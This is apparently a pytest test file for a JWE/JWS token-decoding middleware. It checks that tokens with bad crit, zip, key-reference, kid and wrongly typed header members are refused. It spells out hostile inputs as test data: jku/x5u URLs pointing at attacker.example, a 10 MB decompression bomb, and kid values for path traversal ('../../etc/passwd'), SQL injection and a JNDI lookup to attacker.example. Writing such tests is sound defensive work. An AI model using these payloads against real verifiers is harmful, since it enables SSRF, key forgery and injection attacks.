"""Header members that ask the recipient for more than it gives: crit, zip,
key references, injected kids, and members of the wrong JSON type.

Each token is otherwise valid (real encryption, real inner signature), so the
member under test is the only reason left to refuse it.
"""

from __future__ import annotations

import zlib
from typing import Any

import pytest

from jwe_middleware import (
    DisallowedAlgorithm,
    MalformedToken,
    TokenTooLarge,
    UnknownKey,
    UnsupportedHeader,
    generate_key,
)

from ._forge import (
    DROP,
    assert_refused,
    claims,
    decoder,
    forbid_network,
    jwe,
    jws,
    keys,
    nested,
    seal,
)

# -- crit ----------------------------------------------------------------------

# (crit value, extension members present in the header)
BAD_CRIT = {
    "string": ("x-ext", {"x-ext": 1}),
    "empty-list": ([], {}),
    "object": ({"x-ext": True}, {"x-ext": 1}),
    "null": (None, {}),
    "number-in-list": ([1], {}),
    "null-in-list": ([None], {}),
    "list-in-list": ([["x-ext"]], {"x-ext": 1}),
    "duplicate": (["x-ext", "x-ext"], {"x-ext": 1}),
    "registered-alg": (["alg"], {}),
    "registered-enc": (["enc"], {}),
    "registered-kid": (["kid"], {}),
    "registered-crit": (["crit"], {}),
    "absent-from-header": (["x-ext"], {}),
    "not-understood": (["x-other"], {"x-other": 1}),
    "one-of-two-not-understood": (["x-ext", "x-other"], {"x-ext": 1, "x-other": 1}),
}


@pytest.mark.parametrize(("crit", "members"), BAD_CRIT.values(), ids=BAD_CRIT)
def test_decode_outer_bad_crit_unsupported(crit: Any, members: dict[str, Any]) -> None:
    # RFC 7515 section 4.1.11 (used by RFC 7516 section 4.1.13): crit is a
    # non-empty list of extension names, none registered, each present in the
    # header and understood, or the token must be refused.
    understands = decoder(critical_headers=["x-ext", "alg", "crit"])
    token = nested(header={"crit": crit, **members})
    assert_refused(understands, token, UnsupportedHeader, "unsupported_header")


@pytest.mark.parametrize(("crit", "members"), BAD_CRIT.values(), ids=BAD_CRIT)
def test_decode_inner_bad_crit_unsupported(crit: Any, members: dict[str, Any]) -> None:
    understands = decoder(critical_headers=["x-ext", "alg", "crit"])
    token = nested(inner={"crit": crit, **members})
    assert_refused(understands, token, UnsupportedHeader, "unsupported_header")


def test_decode_understood_crit_control_passes() -> None:
    understands = decoder(critical_headers=["x-ext"])
    outer = nested(header={"crit": ["x-ext"], "x-ext": 1})
    inner = nested(inner={"crit": ["x-ext"], "x-ext": 1})
    assert understands.decode(outer.compact)["sub"] == "alice"
    assert understands.decode(inner.compact)["sub"] == "alice"
    assert_refused(decoder(), outer, UnsupportedHeader, "unsupported_header")


# -- zip -----------------------------------------------------------------------


def _deflate(data: bytes, *, wrapped: bool) -> bytes:
    # RFC 7516 section 4.1.3 names raw DEFLATE (RFC 1951); the zlib wrapper
    # (RFC 1950) is what python-jose produces and inflates instead.
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS if wrapped else -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


PAYLOADS = {
    "raw-deflate": lambda: _deflate(jws(claims(), key=keys().es256).encode(), wrapped=False),
    "zlib-wrapped": lambda: _deflate(jws(claims(), key=keys().es256).encode(), wrapped=True),
    "bomb-10mb": lambda: _deflate(b"\0" * 10_000_000, wrapped=False),
}


@pytest.fixture
def no_inflate(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        calls.append("inflate")
        raise AssertionError("the decoder inflated a token")

    monkeypatch.setattr(zlib, "decompress", refuse)
    monkeypatch.setattr(zlib, "decompressobj", refuse)
    return calls


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_decode_zip_def_unsupported_before_inflating(payload: Any, no_inflate: list[str]) -> None:
    # RFC 8725 section 3.6: compressing before encrypting leaks the plaintext
    # through the length; inflating on receipt invites a decompression bomb.
    # The limit is raised so the 10 MB bomb (about 13 KiB as a token) is read.
    token = seal(payload(), header={"zip": "DEF"})
    assert_refused(decoder(max_token_bytes=64 * 1024), token, UnsupportedHeader,
                   "unsupported_header")
    assert no_inflate == []


def test_decode_zip_bomb_default_limit_too_large(no_inflate: list[str]) -> None:
    token = seal(PAYLOADS["bomb-10mb"](), header={"zip": "DEF"})
    assert len(token.compact) > 8 * 1024
    assert_refused(decoder(), token, TokenTooLarge, "too_large")
    assert no_inflate == []


@pytest.mark.parametrize("zip_value", ["DEF", "def", "GZIP", "", None, 0, ["DEF"]])
def test_decode_any_zip_member_unsupported(zip_value: Any) -> None:
    # Even a zip member over an uncompressed payload is refused: its presence
    # alone is the request.
    token = nested(header={"zip": zip_value})
    assert_refused(decoder(), token, UnsupportedHeader, "unsupported_header")


def test_decode_inner_zip_member_unsupported() -> None:
    token = nested(inner={"zip": "DEF"})
    assert_refused(decoder(), token, UnsupportedHeader, "unsupported_header")


# -- key references ------------------------------------------------------------

ATTACKER = "https://attacker.example/keys"
KEY_REFERENCES = {
    "jku": ATTACKER,
    "x5u": ATTACKER + ".pem",
    "jwk": {"kty": "EC", "crv": "P-256", "x": "AAAA", "y": "AAAA"},
    "x5c": ["MIIBkTCB+wIJAKHBfpegPjMCMA0GCSqGSIb3DQEBCwUAMBExDzANBgNVBAMMBnVudXNlZA=="],
}


@pytest.mark.parametrize(("member", "value"), KEY_REFERENCES.items(), ids=KEY_REFERENCES)
@pytest.mark.parametrize("where", ["outer", "inner"])
def test_decode_key_reference_unsupported_without_network(
    member: str, value: Any, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # RFC 8725 sections 2.9 and 3.10: a header that names where to fetch or
    # which key to trust turns the verifier into a fetcher for the attacker
    # (SSRF) or lets the token vouch for itself.
    attempts = forbid_network(monkeypatch)
    change = {member: value}
    token = nested(header=change) if where == "outer" else nested(inner=change)
    assert_refused(decoder(), token, UnsupportedHeader, "unsupported_header")
    assert attempts == []


def test_decode_inner_embedded_attacker_jwk_unsupported(monkeypatch: pytest.MonkeyPatch) -> None:
    # The embedded-key attack: the inner JWS is signed by the attacker's own
    # key and carries its public half in "jwk" (RFC 7515 section 4.1.3).
    attempts = forbid_network(monkeypatch)
    attacker = generate_key("ES256", kid="iss-es")
    token = nested(signer=attacker, inner={"jwk": attacker.public_jwk()})
    assert_refused(decoder(), token, UnsupportedHeader, "unsupported_header")
    assert attempts == []


# -- kid -----------------------------------------------------------------------

INJECTED_KIDS = [
    "../../etc/passwd",
    "/dev/zero",
    "' OR 1=1 --",
    "svc-rsa' --",
    "\u0000",
    "svc-rsa\u0000",
    "",
    " svc-rsa",
    "SVC-RSA",
    "svc-rsa\n",
    "${jndi:ldap://attacker.example/a}",
    "k" * 4000,
]


@pytest.mark.parametrize("kid", INJECTED_KIDS, ids=lambda kid: repr(kid)[:24])
def test_decode_injected_kid_unknown_key(kid: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # RFC 8725 sections 2.9 and 3.10: kid is attacker-chosen text, looked up
    # only as a dictionary key, never used as a path, query or URL.
    attempts = forbid_network(monkeypatch)
    assert_refused(decoder(), nested(header={"kid": kid}), UnknownKey, "unknown_key")
    assert attempts == []


@pytest.mark.parametrize("kid", INJECTED_KIDS[:6], ids=lambda kid: repr(kid)[:24])
def test_decode_inner_injected_kid_unknown_key(kid: str) -> None:
    assert_refused(decoder(), nested(inner={"kid": kid}), UnknownKey, "unknown_key")


# -- member types --------------------------------------------------------------

# Members the decoder reads as strings (RFC 7515 section 4.1, RFC 7516 section 4.1).
WRONG_TYPES = [
    ("alg", 1),
    ("alg", ["RSA-OAEP-256"]),
    ("alg", None),
    ("enc", {"name": "A256GCM"}),
    ("enc", True),
    ("kid", 7),
    ("kid", ["svc-rsa"]),
    ("cty", {"type": "JWT"}),
    ("typ", False),
]


@pytest.mark.parametrize(("member", "value"), WRONG_TYPES)
@pytest.mark.parametrize("where", ["outer", "inner"])
def test_decode_member_of_wrong_type_malformed(member: str, value: Any, where: str) -> None:
    change = {member: value}
    token = nested(header=change) if where == "outer" else nested(inner=change)
    assert_refused(decoder(), token, MalformedToken, "malformed")


@pytest.mark.parametrize("member", ["alg", "enc"])
def test_decode_missing_algorithm_member_disallowed(member: str) -> None:
    header = {"alg": "dir", "enc": "A256GCM", "kid": "svc-dir", "cty": "JWT"}
    del header[member]
    signed = jws(claims(), key=keys().es256).encode()
    token = jwe(signed, header, key=keys().direct, alg="dir", enc="A256GCM")
    assert_refused(decoder(), token, DisallowedAlgorithm, "disallowed_algorithm")


def test_decode_inner_missing_alg_disallowed() -> None:
    token = nested(inner={"alg": DROP})
    assert_refused(decoder(), token, DisallowedAlgorithm, "disallowed_algorithm")
